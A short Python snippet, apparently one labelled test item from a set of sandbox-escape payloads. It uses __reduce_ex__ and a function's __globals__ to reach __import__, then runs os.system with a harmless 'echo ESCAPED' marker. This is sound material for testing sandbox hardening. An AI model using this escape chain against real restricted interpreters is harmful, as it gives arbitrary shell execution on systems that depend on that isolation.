# kind: pickle-protocol
# effect: prints ESCAPED
make = (1).__reduce_ex__(2)[0]
space = make.__globals__["__builtins__"]
importer = space["__import__"] if isinstance(space, dict) else space.__import__
importer("os").system("echo ESCAPED")
